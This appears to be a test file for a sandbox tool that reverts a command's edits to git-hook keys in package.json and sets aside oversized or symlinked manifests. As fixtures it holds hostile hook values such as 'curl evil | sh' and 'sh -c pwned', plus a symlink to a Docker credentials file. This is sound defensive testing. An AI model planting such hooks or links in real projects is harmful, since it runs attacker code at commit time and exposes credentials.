// The keys of a package.json that git's next commit runs (red team 10's O4): lint-staged's, husky v4's, yorkie's,
// simple-git-hooks'. A command's change to one is undone in place after it, the rest of its edit kept and its whole
// file beside; in the real sandbox, the command editing dependencies goes on working.
import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { detectSandbox } from "../../../src/sandbox/detect.ts";
import { ALL_SCRIPTS, hookKeys, hookKeysBefore, restoreHookKeys, withKeysOf } from "../../../src/sandbox/package-hooks.ts";
import { runAllowed } from "../../support/confined.ts";
import { tempDir, unseenDir } from "../../support/context.ts";

const MANIFEST = '{\n    "name": "app",\n    "dependencies": { "left-pad": "1.3.0" },\n    "lint-staged": { "*.js": "eslint --fix" },\n    "husky": { "hooks": { "pre-commit": "lint-staged" } }\n}\n';

test("the hook keys of a package.json, as JSON text; none for a file that is no JSON object", () => {
  expect(hookKeys(MANIFEST)).toEqual({ "lint-staged": '{"*.js":"eslint --fix"}', husky: '{"hooks":{"pre-commit":"lint-staged"}}' });
  expect(hookKeys('{"gitHooks": {"pre-commit": "x"}, "simple-git-hooks": {"pre-push": "y"}}')).toEqual({ gitHooks: '{"pre-commit":"x"}', "simple-git-hooks": '{"pre-push":"y"}' });
  expect(hookKeys('\uFEFF{"lint-staged": {"*": "x"}}')).toEqual({ "lint-staged": '{"*":"x"}' });
  expect(hookKeys("[1]")).toBeNull();
  expect(hookKeys("{ not json")).toBeNull();
});

test("the keys put back as they were (one the command added removed), the rest of the command's edit kept, in the file's indentation", () => {
  const edited = JSON.stringify({ name: "app", dependencies: { "left-pad": "1.3.1" }, "lint-staged": { "*.js": "curl evil | sh" }, husky: { hooks: { "pre-commit": "lint-staged" } }, "simple-git-hooks": { "pre-commit": "x" } }, null, 4) + "\n";
  const back = withKeysOf(edited, hookKeys(MANIFEST)!)!;
  expect(JSON.parse(back)).toEqual({ name: "app", dependencies: { "left-pad": "1.3.1" }, "lint-staged": { "*.js": "eslint --fix" }, husky: { hooks: { "pre-commit": "lint-staged" } } });
  expect(back.split("\n")[1]).toBe('    "name": "app",');
  expect(back.endsWith("}\n")).toBe(true);
});

test("after a command: a changed key undone with the command's file beside; an untouched manifest, a dependency edit, a new manifest without keys left alone", () => {
  const root = tempDir("bunker-package-hooks-");
  mkdirSync(join(root, "packages/web"), { recursive: true });
  const top = join(root, "package.json");
  const web = join(root, "packages/web/package.json");
  const fresh = join(root, "packages/new/package.json");
  const plain = join(root, "packages/plain/package.json");
  writeFileSync(top, MANIFEST);
  writeFileSync(web, '{"name": "web"}\n');
  const before = hookKeysBefore([top, web]);
  // The command: a dependency bump at the top, a lint-staged key added in a package, a new package with one.
  writeFileSync(top, MANIFEST.replace("1.3.0", "1.3.1"));
  writeFileSync(web, '{"name": "web", "lint-staged": {"*": "sh -c evil"}}\n');
  mkdirSync(join(root, "packages/new"));
  mkdirSync(join(root, "packages/plain"));
  writeFileSync(fresh, '{"name": "new", "husky": {"hooks": {"pre-commit": "evil"}}}\n');
  writeFileSync(plain, '{"name": "plain"}\n');
  const lines = restoreHookKeys(root, before, [top, web, fresh, plain]);
  expect(lines).toHaveLength(2);
  expect(lines[0]).toBe('bunker undid the command\'s change to "lint-staged" in packages/web/package.json (run on your next git commit by lint-staged, husky or a git hooks package, like a .lintstagedrc); the rest of its edit is kept. The command\'s whole file is packages/web/package.json.bunker-set-aside; to take its version after checking it: mv packages/web/package.json.bunker-set-aside packages/web/package.json');
  expect(lines[1]).toContain('undid the command\'s change to "husky" in packages/new/package.json');
  expect(readFileSync(top, "utf8")).toBe(MANIFEST.replace("1.3.0", "1.3.1"));
  expect(JSON.parse(readFileSync(web, "utf8"))).toEqual({ name: "web" });
  expect(readFileSync(`${web}.bunker-set-aside`, "utf8")).toContain("sh -c evil");
  expect(JSON.parse(readFileSync(fresh, "utf8"))).toEqual({ name: "new" });
  expect(existsSync(`${top}.bunker-set-aside`)).toBe(false);
  expect(existsSync(`${plain}.bunker-set-aside`)).toBe(false);
});

test("a package.json the command left past 4 MB is set aside whole, said; the person's own large one, untouched, stays (red team 13's F02)", () => {
  const root = tempDir("bunker-package-hooks-big-");
  mkdirSync(join(root, "big"));
  const padded = join(root, "package.json");
  const theirs = join(root, "big/package.json");
  writeFileSync(padded, MANIFEST);
  writeFileSync(theirs, `{"name": "big", "lint-staged": {"*": "eslint"}}${" ".repeat(4_300_000)}\n`);
  const before = hookKeysBefore([padded, theirs]);
  writeFileSync(padded, `{"name": "app", "lint-staged": {"*.js": "sh -c pwned --"}}${" ".repeat(4_300_000)}\n`);
  const lines = restoreHookKeys(root, before, [padded, theirs]);
  expect(lines).toEqual([expect.stringContaining("bunker set aside package.json: the command changed it and left it 4.1 MB, too big to check its keys that run on your next git commit")]);
  expect(lines[0]).toEndWith("mv package.json.bunker-set-aside package.json");
  expect(existsSync(padded)).toBe(false);
  expect(readFileSync(`${padded}.bunker-set-aside`, "utf8")).toContain("sh -c pwned");
  expect(readFileSync(theirs, "utf8")).toStartWith('{"name": "big"');
  expect(existsSync(`${theirs}.bunker-set-aside`)).toBe(false);
});

test("a package.json the command made a link is set aside unread: nothing of what it leads to reaches the workspace (red team 13's F07)", () => {
  const root = tempDir("bunker-package-hooks-link-");
  const outside = tempDir("bunker-package-hooks-outside-");
  const secret = join(outside, "config.json");
  writeFileSync(secret, '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}\n');
  mkdirSync(join(root, "own"));
  writeFileSync(join(root, "shared.json"), '{"name": "shared"}\n');
  const manifest = join(root, "package.json");
  const own = join(root, "own/package.json");
  writeFileSync(manifest, MANIFEST);
  symlinkSync("../shared.json", own);
  const before = hookKeysBefore([manifest, own]);
  rmSync(manifest);
  symlinkSync(secret, manifest);
  const lines = restoreHookKeys(root, before, [manifest, own]);
  expect(lines).toEqual([`bunker set aside package.json, a link the command made to ${secret} (lint-staged, husky or a git hooks package read what it leads to at your next git commit; bunker did not read it). To take it after checking it: mv package.json.bunker-set-aside package.json`]);
  expect(lstatSync(join(root, "package.json.bunker-set-aside")).isSymbolicLink()).toBe(true);
  expect(existsSync(manifest)).toBe(false);
  // The person's own link, unchanged, stays as it was.
  expect(readlinkSync(own)).toBe("../shared.json");
  for (const name of readdirSync(root)) if (!lstatSync(join(root, name)).isSymbolicLink() && lstatSync(join(root, name)).isFile()) expect(readFileSync(join(root, name), "utf8")).not.toContain("c2VjcmV0");
});

test("a hook line whose script bunker cannot tell (npm run \"$TASK\") keeps the person's whole scripts table: a command's change anywhere in it is undone (reviewer's R13-01)", () => {
  const root = tempDir("bunker-package-hooks-all-");
  const manifest = join(root, "package.json");
  writeFileSync(manifest, '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": { "lint": "eslint ." }\n}\n');
  const before = hookKeysBefore([manifest], [ALL_SCRIPTS]);
  writeFileSync(manifest, '{\n  "name": "app",\n  "version": "1.0.1",\n  "scripts": { "lint": "curl evil | sh", "x": "y" }\n}\n');
  const lines = restoreHookKeys(root, before, [manifest]);
  expect(lines[0]).toStartWith('bunker undid the command\'s change to "scripts" in package.json (run on your next git commit by your git hooks)');
  expect(JSON.parse(readFileSync(manifest, "utf8"))).toEqual({ name: "app", version: "1.0.1", scripts: { lint: "eslint ." } });
});

test("commitlint's key is a hook key: a command's new one (extends: a file of its own) is undone (reviewer's R13-07)", () => {
  const root = tempDir("bunker-package-hooks-cl-");
  const manifest = join(root, "package.json");
  writeFileSync(manifest, '{\n  "name": "app"\n}\n');
  const before = hookKeysBefore([manifest]);
  writeFileSync(manifest, '{\n  "name": "app",\n  "commitlint": { "extends": ["./tools/cl.js"] }\n}\n');
  expect(restoreHookKeys(root, before, [manifest])[0]).toStartWith('bunker undid the command\'s change to "commitlint" in package.json');
  expect(JSON.parse(readFileSync(manifest, "utf8"))).toEqual({ name: "app" });
});

test("a script the person's own hook keys run (lint-staged's \"npm run fmt\", husky v4's, simple-git-hooks') is a hook key too: a command's change to it is undone (reviewer's R13-08)", () => {
  for (const keys of [{ "lint-staged": { "*.js": ["npm run fmt", "git add"] } }, { husky: { hooks: { "pre-commit": "npm run fmt" } } }, { "simple-git-hooks": { "pre-commit": "npm run fmt" } }]) {
    const root = tempDir("bunker-package-hooks-own-");
    const manifest = join(root, "package.json");
    writeFileSync(manifest, JSON.stringify({ name: "app", scripts: { fmt: "prettier -w ." }, ...keys }, null, 2) + "\n");
    const before = hookKeysBefore([manifest]);
    writeFileSync(manifest, JSON.stringify({ name: "app", version: "2", scripts: { fmt: "curl evil | sh" }, ...keys }, null, 2) + "\n");
    const lines = restoreHookKeys(root, before, [manifest]);
    expect({ keys, line: lines[0] ?? "" }).toEqual({ keys, line: expect.stringContaining('bunker undid the command\'s change to "scripts.fmt" in package.json') });
    expect(JSON.parse(readFileSync(manifest, "utf8"))).toMatchObject({ version: "2", scripts: { fmt: "prettier -w ." } });
  }
});

const usable = detectSandbox().kind === "bubblewrap";
const base = unseenDir("bunker-package-hooks-run-");
afterAll(() => rmSync(base, { recursive: true, force: true }));

describe.skipIf(!usable)("in the real sandbox: a command's edit of package.json (real bubblewrap)", () => {
  test("a changed lint-staged key is undone after the command, its dependency bump kept; the result says so", async () => {
    const root = join(base, "ws");
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, "package.json"), MANIFEST);
    const edit = `node -e 'const fs=require("fs"),p=JSON.parse(fs.readFileSync("package.json"));p.dependencies["left-pad"]="1.3.1";p["lint-staged"]={"*.js":"sh -c pwned"};fs.writeFileSync("package.json",JSON.stringify(p,null,4)+"\\n")' && echo edited`;
    const out = await runAllowed(root, edit, { env: { PATH: process.env.PATH ?? "", HOME: base }, home: base });
    expect(out).toContain("edited");
    expect(out).toContain('bunker undid the command\'s change to "lint-staged" in package.json');
    const now = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
    expect(now.dependencies["left-pad"]).toBe("1.3.1");
    expect(now["lint-staged"]).toEqual({ "*.js": "eslint --fix" });
    expect(readFileSync(join(root, "package.json.bunker-set-aside"), "utf8")).toContain("sh -c pwned");
  });

  test("a new lint-staged key padded past 4 MB does not stay: the file is set aside whole and the result says so (red team 13's F02)", async () => {
    const root = join(base, "ws-big");
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, "package.json"), MANIFEST);
    const edit = `node -e 'const fs=require("fs"),p=JSON.parse(fs.readFileSync("package.json"));p["lint-staged"]={"*.js":"sh -c pwned --"};fs.writeFileSync("package.json",JSON.stringify(p,null,4)+" ".repeat(4400000)+"\\n")' && echo edited`;
    const out = await runAllowed(root, edit, { env: { PATH: process.env.PATH ?? "", HOME: base }, home: base });
    expect(out).toContain("edited");
    expect(out).toContain("bunker set aside package.json: the command changed it and left it 4.2 MB");
    expect(existsSync(join(root, "package.json"))).toBe(false);
    expect(readFileSync(join(root, "package.json.bunker-set-aside"), "utf8")).toContain("sh -c pwned");
  });

  test("package.json made a link to a file of the person's outside the workspace: set aside unread; the next command reads nothing of it (red team 13's F07)", async () => {
    const root = join(base, "ws-link");
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, "package.json"), MANIFEST);
    const secret = join(base, "docker-config.json");
    writeFileSync(secret, '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}\n');
    const opts = { env: { PATH: process.env.PATH ?? "", HOME: base }, home: base };
    const linked = await runAllowed(root, `ln -sf ${secret} package.json && echo linked`, opts);
    expect(linked).toContain(`bunker set aside package.json, a link the command made to ${secret}`);
    const read = await runAllowed(root, "cat package.json.bunker-set-aside package.json; ls -l", opts);
    expect(read).not.toContain("c2VjcmV0");
    expect(readlinkSync(join(root, "package.json.bunker-set-aside"))).toBe(secret);
  });
});
